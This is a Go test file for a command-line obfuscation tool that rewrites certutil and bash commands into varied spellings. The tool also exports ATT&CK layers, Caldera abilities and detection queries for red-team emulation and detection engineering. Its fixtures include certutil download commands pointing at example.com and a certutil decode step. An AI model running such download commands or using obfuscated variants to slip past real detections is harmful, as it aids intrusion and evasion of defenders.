@@ -0,0 +1,690 @@
+package cli
+
+import (
+	"bytes"
+	"crypto/sha256"
+	"encoding/csv"
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
+	"maps"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+	"unicode"
+
+	"gopkg.in/yaml.v3"
+
+	"cmdFuscator/data"
+)
+
+// run calls Run with the embedded profiles, no user overlay and no settings
+// file, returning the exit code, stdout and stderr.
+func run(t *testing.T, stdin string, args ...string) (int, string, string) {
+	t.Helper()
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	t.Setenv("HOME", t.TempDir())
+	return runIn(stdin, args...)
+}
+
+// runWithConfig is run with config.toml set to toml; relative directories in
+// it are relative to the returned directory.
+func runWithConfig(t *testing.T, toml, stdin string, args ...string) (code int, stdout, stderr, dir string) {
+	t.Helper()
+	home := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", home)
+	t.Setenv("HOME", t.TempDir())
+	dir = filepath.Join(home, "cmdfuscator")
+	if err := os.MkdirAll(dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "config.toml"), []byte(toml), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	code, stdout, stderr = runIn(stdin, args...)
+	return code, stdout, stderr, dir
+}
+
+func runIn(stdin string, args ...string) (int, string, string) {
+	var stdout, stderr bytes.Buffer
+	code := Run(data.ModelFS, args, strings.NewReader(stdin), &stdout, &stderr)
+	return code, stdout.String(), stderr.String()
+}
+
+func TestRunUsage(t *testing.T) {
+	tests := []struct {
+		name     string
+		args     []string
+		wantCode int
+		wantErr  string
+	}{
+		{"no args", nil, exitUsage, "usage: cmdfuscator"},
+		{"unknown command", []string{"frobnicate"}, exitUsage, `unknown command "frobnicate"`},
+		{"help", []string{"help"}, exitOK, ""},
+		{"subcommand help", []string{"obfuscate", "-h"}, exitOK, "-modifiers"},
+		{"bad flag", []string{"obfuscate", "--nope", "x"}, exitUsage, "flag provided but not defined"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			code, _, stderr := run(t, "", tt.args...)
+			if code != tt.wantCode {
+				t.Errorf("exit code = %d, want %d (stderr %q)", code, tt.wantCode, stderr)
+			}
+			if !strings.Contains(stderr, tt.wantErr) {
+				t.Errorf("stderr = %q, want it to contain %q", stderr, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestObfuscate(t *testing.T) {
+	const input = "certutil -urlcache -f https://example.com/a.txt a.txt"
+	code, stdout, stderr := run(t, "", "obfuscate", "--exe", "certutil", "--modifiers", "RandomCase", input)
+	if code != exitOK {
+		t.Fatalf("exit code = %d, stderr %q", code, stderr)
+	}
+	out := strings.TrimSuffix(stdout, "\n")
+	if strings.Contains(out, "\n") {
+		t.Fatalf("stdout has more than one line: %q", stdout)
+	}
+	// RandomCase only changes letter case.
+	if !strings.EqualFold(out, input) {
+		t.Errorf("output %q is not %q with its case changed", out, input)
+	}
+	if stderr != "" {
+		t.Errorf("stderr = %q, want empty", stderr)
+	}
+}
+
+func TestObfuscateDetectsProfile(t *testing.T) {
+	// Unquoted words are joined, and certutil.exe resolves to certutil.
+	code, stdout, stderr := run(t, "", "obfuscate", "--modifiers", "RandomCase", "certutil.exe", "-urlcache", "-f", "https://x")
+	if code != exitOK {
+		t.Fatalf("exit code = %d, stderr %q", code, stderr)
+	}
+	if !strings.EqualFold(strings.TrimSpace(stdout), "certutil.exe -urlcache -f https://x") {
+		t.Errorf("stdout = %q", stdout)
+	}
+}
+
+func TestObfuscateErrors(t *testing.T) {
+	tests := []struct {
+		name     string
+		args     []string
+		wantCode int
+		wantErr  string
+	}{
+		{"no command", []string{"--exe", "certutil"}, exitUsage, "no command given"},
+		{"unknown modifier", []string{"--modifiers", "RandomCsae", "certutil -f"}, exitUsage, `unknown modifier "RandomCsae"`},
+		{"bad target", []string{"--target", "fish", "certutil -f"}, exitUsage, `unknown render target "fish"`},
+		{"unknown exe", []string{"--exe", "notepad", "notepad x"}, exitError, `no profile for "notepad"`},
+		{"undetectable", []string{"notepad x"}, exitError, `no profile matches "notepad"; pass --exe`},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			code, stdout, stderr := run(t, "", append([]string{"obfuscate"}, tt.args...)...)
+			if code != tt.wantCode {
+				t.Errorf("exit code = %d, want %d", code, tt.wantCode)
+			}
+			if stdout != "" {
+				t.Errorf("stdout = %q, want empty", stdout)
+			}
+			if !strings.Contains(stderr, tt.wantErr) {
+				t.Errorf("stderr = %q, want it to contain %q", stderr, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestObfuscateWarnsAboutExplicitModifiers(t *testing.T) {
+	code, stdout, stderr := run(t, "", "obfuscate", "--exe", "certutil", "--modifiers", "RandomCase,QuoteInsertion", "certutil -urlcache")
+	if code != exitOK || stdout == "" {
+		t.Fatalf("exit code = %d, stdout %q", code, stdout)
+	}
+	if !strings.Contains(stderr, "warning: QuoteInsertion is not implemented yet") {
+		t.Errorf("stderr = %q, want a not-implemented warning", stderr)
+	}
+}
+
+func TestObfuscateStdin(t *testing.T) {
+	input := strings.Join([]string{
+		"certutil -urlcache -f https://x a.txt",
+		"",
+		"notepad readme.txt",
+		"bash -c id\r",
+	}, "\n") + "\n"
+	code, stdout, stderr := run(t, input, "obfuscate", "--stdin", "--modifiers", "RandomCase")
+	if code != exitError {
+		t.Errorf("exit code = %d, want %d for the undetectable line", code, exitError)
+	}
+
+	lines := strings.Split(strings.TrimSuffix(stdout, "\n"), "\n")
+	want := []string{"certutil -urlcache -f https://x a.txt", "", "notepad readme.txt", "bash -c id"}
+	if len(lines) != len(want) {
+		t.Fatalf("got %d output lines, want %d: %q", len(lines), len(want), stdout)
+	}
+	for i := range want {
+		if !strings.EqualFold(lines[i], want[i]) {
+			t.Errorf("line %d = %q, want %q up to case", i+1, lines[i], want[i])
+		}
+	}
+	if lines[2] != "notepad readme.txt" {
+		t.Errorf("undetectable line changed: %q", lines[2])
+	}
+	if !strings.Contains(stderr, `line 3: no profile matches "notepad"`) {
+		t.Errorf("stderr = %q, want a warning for line 3", stderr)
+	}
+}
+
+func TestObfuscateStdinWarnsOnce(t *testing.T) {
+	input := "certutil -urlcache\ncertutil -f x\n"
+	code, stdout, stderr := run(t, input, "obfuscate", "--stdin", "--modifiers", "RandomCase,QuoteInsertion")
+	if code != exitOK {
+		t.Fatalf("exit code = %d, stderr %q", code, stderr)
+	}
+	if n := strings.Count(stdout, "\n"); n != 2 {
+		t.Errorf("got %d output lines, want 2", n)
+	}
+	if n := strings.Count(stderr, "QuoteInsertion is not implemented yet"); n != 1 {
+		t.Errorf("warning printed %d times, want once: %q", n, stderr)
+	}
+}
+
+func TestObfuscateStdinRejectsCommand(t *testing.T) {
+	code, _, stderr := run(t, "", "obfuscate", "--stdin", "certutil -f")
+	if code != exitUsage || !strings.Contains(stderr, "--stdin takes no COMMAND") {
+		t.Errorf("exit code = %d, stderr %q", code, stderr)
+	}
+}
+
+func TestObfuscateSeedIsReproducible(t *testing.T) {
+	args := []string{"obfuscate", "--seed", "42", "--count", "3", "certutil -urlcache -split -f https://example.com/a output.ext"}
+	_, first, _ := run(t, "", args...)
+	_, second, _ := run(t, "", args...)
+	if first == "" || first != second {
+		t.Errorf("same seed gave different output:\n%s\n%s", first, second)
+	}
+	_, other, _ := run(t, "", append([]string{"obfuscate", "--seed", "43"}, args[3:]...)...)
+	if other == first {
+		t.Errorf("seeds 42 and 43 gave the same output:\n%s", first)
+	}
+}
+
+func TestObfuscateCount(t *testing.T) {
+	const input = "certutil -urlcache -split -f https://example.com/a output.ext"
+	code, stdout, stderr := run(t, "", "obfuscate", "--seed", "1", "--count", "5", "--modifiers", "RandomCase", input)
+	if code != exitOK {
+		t.Fatalf("exit code = %d, stderr %q", code, stderr)
+	}
+	lines := strings.Split(strings.TrimSuffix(stdout, "\n"), "\n")
+	if len(lines) != 5 {
+		t.Fatalf("got %d variants, want 5:\n%s", len(lines), stdout)
+	}
+	seen := make(map[string]bool)
+	for _, l := range lines {
+		if seen[l] {
+			t.Errorf("duplicate variant %q", l)
+		}
+		seen[l] = true
+		if !strings.EqualFold(l, input) {
+			t.Errorf("variant %q is not %q with its case changed", l, input)
+		}
+	}
+}
+
+func TestObfuscateCountExhausted(t *testing.T) {
+	// RandomCase on bash only touches the one argument "-c", which has two
+	// spellings.
+	code, stdout, stderr := run(t, "", "obfuscate", "--count", "5", "--modifiers", "RandomCase", "bash -c id")
+	if code != exitOK {
+		t.Fatalf("exit code = %d, stderr %q", code, stderr)
+	}
+	if n := strings.Count(stdout, "\n"); n != 2 {
+		t.Errorf("got %d variants, want 2:\n%s", n, stdout)
+	}
+	if !strings.Contains(stderr, "found only 2 distinct variants of 5") {
+		t.Errorf("stderr = %q", stderr)
+	}
+}
+
+func TestObfuscateCountUsage(t *testing.T) {
+	for _, args := range [][]string{
+		{"obfuscate", "--count", "0", "certutil -f"},
+		{"obfuscate", "--stdin", "--count", "2"},
+	} {
+		if code, _, stderr := run(t, "", args...); code != exitUsage {
+			t.Errorf("%v: exit code = %d, stderr %q", args, code, stderr)
+		}
+	}
+}
+
+func TestObfuscateExplain(t *testing.T) {
+	const input = "certutil -urlcache -f https://example.com/a.txt a.txt"
+	code, stdout, stderr := run(t, "", "obfuscate", "--explain", "--seed", "7",
+		"--modifiers", "RandomCase,CharacterInsertion,Sed", input)
+	if code != exitOK {
+		t.Fatalf("exit code = %d, stderr %q", code, stderr)
+	}
+	if n := strings.Count(stdout, "\n"); n != 1 {
+		t.Errorf("stdout has %d lines, want only the result:\n%s", n, stdout)
+	}
+	for _, want := range []string{
+		"explain: " + input + " (profile certutil, target cmd)\n",
+		"  CharacterInsertion:\n",
+		"  RandomCase:\n",
+		"    - [0]  command",
+		"  Sed: skipped, not implemented\n",
+		"output: ",
+	} {
+		if !strings.Contains(stderr, want) {
+			t.Errorf("stderr does not contain %q:\n%s", want, stderr)
+		}
+	}
+	if strings.ContainsFunc(stderr, func(r rune) bool { return r != '\n' && !unicode.IsPrint(r) }) {
+		t.Errorf("explanation has unescaped non-printable characters: %q", stderr)
+	}
+}
+
+func TestObfuscateNavigator(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "layer.json")
+	input := "certutil -urlcache -f https://x a.txt\nbash -c id\ncertutil -decode a b\n"
+	code, _, stderr := run(t, input, "obfuscate", "--stdin", "--modifiers", "RandomCase", "--navigator", path)
+	if code != exitOK {
+		t.Fatalf("exit code = %d, stderr %q", code, stderr)
+	}
+	data, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var layer struct {
+		Domain     string `json:"domain"`
+		Techniques []struct {
+			TechniqueID string `json:"techniqueID"`
+			Score       *int   `json:"score"`
+		} `json:"techniques"`
+	}
+	if err := json.Unmarshal(data, &layer); err != nil {
+		t.Fatalf("layer: %v\n%s", err, data)
+	}
+	scores := make(map[string]int)
+	for _, tech := range layer.Techniques {
+		if tech.Score != nil {
+			scores[tech.TechniqueID] = *tech.Score
+		}
+	}
+	want := map[string]int{"T1105": 2, "T1140": 2, "T1059.004": 1}
+	if layer.Domain != "enterprise-attack" || !maps.Equal(scores, want) {
+		t.Errorf("layer %s scores %v, want %v", layer.Domain, scores, want)
+	}
+}
+
+func TestObfuscateNavigatorUnwritable(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "missing", "layer.json")
+	code, stdout, stderr := run(t, "", "obfuscate", "--navigator", path, "certutil -f")
+	if code != exitError || stdout == "" || !strings.Contains(stderr, "obfuscate: navigator: ") {
+		t.Errorf("got %d, stdout %q, stderr %q; want the variant and then a write error", code, stdout, stderr)
+	}
+}
+
+func TestObfuscateCaldera(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "abilities.yml")
+	input := "certutil -urlcache -f https://x a.txt\nbash -c id\ncertutil -decode a b\n"
+	code, stdout, stderr := run(t, input, "obfuscate", "--stdin", "--caldera", path)
+	if code != exitOK {
+		t.Fatalf("exit code = %d, stderr %q", code, stderr)
+	}
+	data, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var abilities []struct {
+		ID        string                                         `yaml:"id"`
+		Name      string                                         `yaml:"name"`
+		Platforms map[string]map[string]struct{ Command string } `yaml:"platforms"`
+	}
+	if err := yaml.Unmarshal(data, &abilities); err != nil {
+		t.Fatalf("abilities: %v\n%s", err, data)
+	}
+	lines := strings.Split(strings.TrimSuffix(stdout, "\n"), "\n")
+	want := []struct{ name, platform, executor string }{
+		{"certutil variant 1", "windows", "cmd"},
+		{"bash variant 1", "linux", "sh"},
+		{"certutil variant 2", "windows", "cmd"},
+	}
+	if len(abilities) != len(want) {
+		t.Fatalf("%d abilities, want %d:\n%s", len(abilities), len(want), data)
+	}
+	for i, w := range want {
+		a := abilities[i]
+		if a.Name != w.name || a.ID == "" || a.Platforms[w.platform][w.executor].Command != lines[i] {
+			t.Errorf("ability %d = %+v, want %s running %q under %s/%s", i, a, w.name, lines[i], w.platform, w.executor)
+		}
+	}
+}
+
+func TestObfuscateReport(t *testing.T) {
+	dir := writeRules(t, map[string]string{"sigs.txt": "-urlcache\nre:^certutil\\s\n"})
+	csvPath, mdPath := filepath.Join(dir, "report.csv"), filepath.Join(dir, "report.md")
+	const input = "certutil -urlcache -f https://example.com/a a"
+	code, stdout, stderr := run(t, "", "obfuscate", "--seed", "2", "--count", "3", "--modifiers", "RandomCase",
+		"--patterns", filepath.Join(dir, "sigs.txt"), "--report", csvPath, input)
+	if code != exitOK {
+		t.Fatalf("exit code = %d, stderr %q", code, stderr)
+	}
+	data, err := os.ReadFile(csvPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	records, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
+	if err != nil {
+		t.Fatalf("report is not CSV: %v\n%s", err, data)
+	}
+	variants := strings.Split(strings.TrimSuffix(stdout, "\n"), "\n")
+	if len(records) != len(variants)+1 || !slices.Equal(records[0], []string{"input", "output", "modifiers", "score", "hits"}) {
+		t.Fatalf("report =\n%s\nwant a header and one row per variant of\n%s", data, stdout)
+	}
+	for i, rec := range records[1:] {
+		if rec[0] != input || rec[1] != variants[i] || rec[2] != "RandomCase" || rec[3] == "0" || !strings.HasPrefix(rec[4], "-urlcache") {
+			t.Errorf("row %d = %q, want %q with RandomCase, a score and its hits", i+1, rec, variants[i])
+		}
+	}
+
+	if code, _, stderr := run(t, "\ncertutil -f\n", "obfuscate", "--stdin", "--report", mdPath); code != exitOK {
+		t.Fatalf("markdown: exit code = %d, stderr %q", code, stderr)
+	}
+	if data, err = os.ReadFile(mdPath); err != nil {
+		t.Fatal(err)
+	}
+	lines := strings.Split(strings.TrimSuffix(string(data), "\n"), "\n")
+	if len(lines) != 3 || lines[0] != "| Input | Output | Modifiers | Score |" || !strings.HasPrefix(lines[2], "| `certutil -f` | `") {
+		t.Errorf("markdown report = %q, want a header and the certutil line's row", data)
+	}
+
+	if code, _, _ := run(t, "", "obfuscate", "--report", csvPath, "--report-format", "html", "certutil -f"); code != exitUsage {
+		t.Errorf("--report-format html: exit code %d, want %d", code, exitUsage)
+	}
+}
+
+func TestObfuscateQuery(t *testing.T) {
+	dir := t.TempDir()
+	spl, elastic := filepath.Join(dir, "q.spl"), filepath.Join(dir, "q.json")
+	const input = "certutil -urlcache -split -f http://example.com/a.exe out.exe"
+	if code, _, stderr := run(t, "", "obfuscate", "--seed", "1", "--count", "5", "--query", spl, input); code != exitOK {
+		t.Fatalf("exit code = %d, stderr %q", code, stderr)
+	}
+	data, err := os.ReadFile(spl)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{`OriginalFileName IN ("certutil.exe")`, "| regex CommandLine=\"(?i)", "[^a-z0-9 ]{0,3}"} {
+		if !strings.Contains(string(data), want) {
+			t.Errorf("--query wrote\n%s\nwant it to contain %s", data, want)
+		}
+	}
+
+	if code, _, stderr := run(t, "", "obfuscate", "--count", "3", "--query", elastic, "--query-format", "elastic", input); code != exitOK {
+		t.Fatalf("elastic: exit code = %d, stderr %q", code, stderr)
+	}
+	if data, err = os.ReadFile(elastic); err != nil || !json.Valid(data) || !strings.Contains(string(data), `"process.command_line"`) {
+		t.Errorf("--query-format elastic wrote %s (%v), want a JSON query on process.command_line", data, err)
+	}
+
+	code, stdout, stderr := run(t, "", "obfuscate", "--query", spl, "bash -c id")
+	if code != exitError || stdout == "" || !strings.Contains(stderr, "obfuscate: query: ") {
+		t.Errorf("got %d, stdout %q, stderr %q; want the variant and then an error", code, stdout, stderr)
+	}
+	for _, args := range [][]string{
+		{"--query", spl, "--stdin"},
+		{"--query", spl, "--query-format", "kql", "certutil -f"},
+	} {
+		if code, _, _ := run(t, "", append([]string{"obfuscate"}, args...)...); code != exitUsage {
+			t.Errorf("obfuscate %q: exit code %d, want %d", args, code, exitUsage)
+		}
+	}
+}
+
+func TestObfuscateOutFormat(t *testing.T) {
+	code, stdout, stderr := run(t, "", "obfuscate", "--out-format", "ps1", "--count", "2", "--seed", "1",
+		"--modifiers", "CharacterInsertion", "certutil -urlcache -f https://x a")
+	if code != exitOK {
+		t.Fatalf("exit code = %d, stderr %q", code, stderr)
+	}
+	lines := strings.Split(strings.TrimPrefix(stdout, "\ufeff"), "\r\n")
+	if !strings.HasPrefix(stdout, "\ufeff# Generated by cmdFuscator.\r\n") || len(lines) != 4 || lines[3] != "" {
+		t.Errorf("stdout = %q, want a BOM, the header and 2 CRLF lines", stdout)
+	}
+
+	// The script's shell is the one rendered for.
+	_, bat, _ := run(t, "", "obfuscate", "--out-format", "bat", "--seed", "1", "--modifiers", "RandomCase", "--exe", "certutil", "certutil -f a&b")
+	if !strings.HasPrefix(bat, "@echo off\r\n") || !strings.Contains(bat, "^&") {
+		t.Errorf("bat = %q, want a batch file with & escaped for cmd", bat)
+	}
+}
+
+func TestObfuscateOutFormatUsage(t *testing.T) {
+	tests := []struct {
+		args []string
+		want string
+	}{
+		{[]string{"--out-format", "vbs", "certutil -f"}, "unknown script format"},
+		{[]string{"--out-format", "sh", "--stdin"}, "cannot be combined with --stdin"},
+		{[]string{"--out-format", "bat", "--target", "bash", "certutil -f"}, "--target bash does not match --out-format bat"},
+	}
+	for _, tt := range tests {
+		code, _, stderr := run(t, "", append([]string{"obfuscate"}, tt.args...)...)
+		if code != exitUsage || !strings.Contains(stderr, tt.want) {
+			t.Errorf("%v: exit %d, stderr %q; want usage error %q", tt.args, code, stderr, tt.want)
+		}
+	}
+	if code, _, stderr := run(t, "", "obfuscate", "--out-format", "bat", "--target", "cmd", "certutil -f"); code != exitOK {
+		t.Errorf("matching --target: exit %d, stderr %q", code, stderr)
+	}
+}
+
+func TestEscape(t *testing.T) {
+	tests := []struct{ in, want string }{
+		{"certutil -f", "certutil -f"},
+		{`C:\Temp\a.exe`, `C:\Temp\a.exe`},
+		{"-u\u200drlcache", `-u\u200drlcache`},
+		{"a\u00adb", `a\u00adb`},
+		{"tab\there", `tab\x09here`},
+		{"tag\U000E0041", `tag\U000e0041`},
+		{"ᵃ\u037f", "ᵃ\u037f"}, // printable: superscript a, GREEK CAPITAL LETTER YOT
+		{"\u0379", `\u0379`},   // unassigned
+	}
+	for _, tt := range tests {
+		if got := escape(tt.in); got != tt.want {
+			t.Errorf("escape(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
+
+func TestConfigDefaults(t *testing.T) {
+	const input = "certutil -urlcache -f https://example.com/a.txt a.txt"
+	tests := []struct {
+		name, toml string
+		args       []string
+		check      func(t *testing.T, out string)
+	}{
+		{
+			name: "modifiers",
+			toml: `modifiers = ["RandomCase"]`,
+			check: func(t *testing.T, out string) {
+				if !strings.EqualFold(out, input) {
+					t.Errorf("output %q is not %q with its case changed", out, input)
+				}
+			},
+		},
+		{
+			name: "probabilities",
+			toml: "modifiers = [\"RandomCase\"]\n[probabilities]\nRandomCase = 0",
+			check: func(t *testing.T, out string) {
+				if out != input {
+					t.Errorf("output %q, want the input unchanged at probability 0", out)
+				}
+			},
+		},
+		{
+			name: "target",
+			toml: "target = \"none\"\n[probabilities]\nRandomCase = 0",
+			args: []string{"--exe", "certutil", "--modifiers", "RandomCase", "a&b"},
+			check: func(t *testing.T, out string) {
+				if out != "a&b" {
+					t.Errorf("output %q, want a&b without cmd escaping", out)
+				}
+			},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			args := tt.args
+			if args == nil {
+				args = []string{input}
+			}
+			code, stdout, stderr, _ := runWithConfig(t, tt.toml, "", append([]string{"obfuscate"}, args...)...)
+			if code != exitOK {
+				t.Fatalf("exit code = %d, stderr %q", code, stderr)
+			}
+			tt.check(t, strings.TrimSuffix(stdout, "\n"))
+		})
+	}
+}
+
+func TestConfigSeed(t *testing.T) {
+	const input = "certutil -urlcache -f https://example.com/a.txt a.txt"
+	outputs := make(map[string]bool)
+	for range 3 {
+		_, stdout, stderr, _ := runWithConfig(t, "seed = 7", "", "obfuscate", input)
+		if stderr != "" {
+			t.Fatalf("stderr %q", stderr)
+		}
+		outputs[stdout] = true
+	}
+	if len(outputs) != 1 {
+		t.Errorf("seed in the config gave %d different outputs, want 1: %v", len(outputs), outputs)
+	}
+
+	// --seed wins over the config's seed.
+	_, fromConfig, _, _ := runWithConfig(t, "seed = 7", "", "obfuscate", input)
+	_, fromFlag, _ := run(t, "", "obfuscate", "--seed", "7", input)
+	if fromConfig != fromFlag {
+		t.Errorf("config seed gave %q, --seed 7 gave %q; want the same", fromConfig, fromFlag)
+	}
+	_, other, _, _ := runWithConfig(t, "seed = 7", "", "obfuscate", "--seed", "8", input)
+	_, flag8, _ := run(t, "", "obfuscate", "--seed", "8", input)
+	if other != flag8 {
+		t.Errorf("--seed 8 with a config seed gave %q, want %q", other, flag8)
+	}
+}
+
+func TestConfigProfileDirs(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", home)
+	dir := filepath.Join(home, "cmdfuscator")
+	if err := os.MkdirAll(filepath.Join(dir, "mine"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "mine", "mytool.json"), []byte(validProfile), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "config.toml"), []byte(`profile_dirs = ["mine"]`), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	code, stdout, stderr := runIn("", "profiles", "list")
+	if code != exitOK {
+		t.Fatalf("exit code = %d, stderr %q", code, stderr)
+	}
+	if !strings.Contains(stdout, "\nmytool ") {
+		t.Errorf("profiles list does not show mytool from profile_dirs:\n%s", stdout)
+	}
+}
+
+func TestConfigManifest(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", home)
+	dir := filepath.Join(home, "cmdfuscator")
+	if err := os.MkdirAll(filepath.Join(dir, "mine"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "mine", "mytool.json"), []byte(validProfile), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "config.toml"), []byte(`profile_dirs = ["mine"]`), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	code, stdout, stderr := runIn("", "profiles", "list", "--manifest", "SHA256SUMS")
+	if code != exitOK || !strings.Contains(stderr, "manifest") {
+		t.Fatalf("without a manifest: exit code = %d, stderr %q; want a warning", code, stderr)
+	}
+	if strings.Contains(stdout, "\nmytool ") {
+		t.Errorf("unverified mytool listed:\n%s", stdout)
+	}
+
+	sum := sha256.Sum256([]byte(validProfile))
+	manifest := hex.EncodeToString(sum[:]) + "  mytool.json\n"
+	if err := os.WriteFile(filepath.Join(dir, "mine", "SHA256SUMS"), []byte(manifest), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	code, stdout, stderr = runIn("", "profiles", "list", "--manifest", "SHA256SUMS")
+	if code != exitOK {
+		t.Fatalf("exit code = %d, stderr %q", code, stderr)
+	}
+	if !strings.Contains(stdout, "\nmytool ") {
+		t.Errorf("verified mytool not listed (stderr %q):\n%s", stderr, stdout)
+	}
+}
+
+func TestConfigRemoteProfiles(t *testing.T) {
+	// A fresh cache, so the upstream set loads without the network.
+	cache := t.TempDir()
+	t.Setenv("XDG_CACHE_HOME", cache)
+	dir := filepath.Join(cache, "cmdfuscator", "remote-models")
+	if err := os.MkdirAll(dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	meta := fmt.Sprintf(`{"fetched": %q, "files": {"mytool.json": "0"}}`, time.Now().Format(time.RFC3339))
+	if err := os.WriteFile(filepath.Join(dir, ".remote-meta"), []byte(meta), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "mytool.json"), []byte(validProfile), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	tests := []struct {
+		name, toml string
+		args       []string
+		remote     bool
+	}{
+		{"flag", "", []string{"--remote"}, true},
+		{"config", `profiles = "remote"`, nil, true},
+		{"flag over config", `profiles = "remote"`, []string{"--remote=false"}, false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			code, stdout, stderr, _ := runWithConfig(t, tt.toml, "", append([]string{"profiles", "list"}, tt.args...)...)
+			if code != exitOK {
+				t.Fatalf("exit code = %d, stderr %q", code, stderr)
+			}
+			if got := strings.Contains(stdout, "\nmytool "); got != tt.remote {
+				t.Errorf("upstream mytool listed = %v, want %v:\n%s", got, tt.remote, stdout)
+			}
+			if got := strings.Contains(stdout, "\ncertutil "); got == tt.remote {
+				t.Errorf("built-in certutil listed = %v, want %v:\n%s", got, !tt.remote, stdout)
+			}
+		})
+	}
+}
+
+func TestConfigBroken(t *testing.T) {
+	code, _, stderr, dir := runWithConfig(t, `target = "fish"`, "", "obfuscate", "certutil -f")
+	if code != exitError {
+		t.Errorf("exit code = %d, want %d", code, exitError)
+	}
+	if want := filepath.Join(dir, "config.toml") + `: target: unknown render target "fish"`; !strings.Contains(stderr, want) {
+		t.Errorf("stderr = %q, want it to contain %q", stderr, want)
+	}
+}